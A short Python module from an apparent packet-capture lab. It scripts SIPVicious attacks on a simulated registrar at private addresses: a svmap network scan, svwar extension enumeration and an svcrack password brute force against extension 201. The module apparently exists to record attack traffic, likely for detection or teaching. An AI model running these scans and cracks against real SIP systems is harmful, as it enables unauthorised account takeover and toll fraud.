"""SIPVicious against a registrar: svmap discovers SIP servers, svwar extensions, svcrack a password. Needs the package
sipvicious.

Run it as ``python -m pcaps.lab.attacks.sip [SCENE...]``.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record

ATTACKER, PBX = "10.20.10.66", "10.20.10.5"
TOOLS = Path(sys.executable).parent


def _segment(lab: Lab) -> Host:
    lab.serve(lab.host("exchange", PBX), "registrar", port=5060, proto="udp")
    return lab.host("attacker", ATTACKER)


def _run(lab: Lab, attacker: Host, tool: str, *options: str) -> None:
    lab.run(attacker, sys.executable, str(TOOLS / f"sipvicious_{tool}"), *options, more={"HOME": str(lab.folder)})


def scan(lab: Lab) -> Iterator[None]:
    attacker = _segment(lab)
    yield
    _run(lab, attacker, "svmap", "10.20.10.0/26")


def extensions(lab: Lab) -> Iterator[None]:
    attacker = _segment(lab)
    yield
    _run(lab, attacker, "svwar", "-e", "180-260", "-m", "REGISTER", PBX)


def password(lab: Lab) -> Iterator[None]:
    attacker = _segment(lab)
    yield
    _run(lab, attacker, "svcrack", "-u", "201", "-r", "4650-4720", PBX)


if __name__ == "__main__":
    record(Path(__file__).parent, sip_scan=scan, sip_extensions=extensions, sip_password=password)
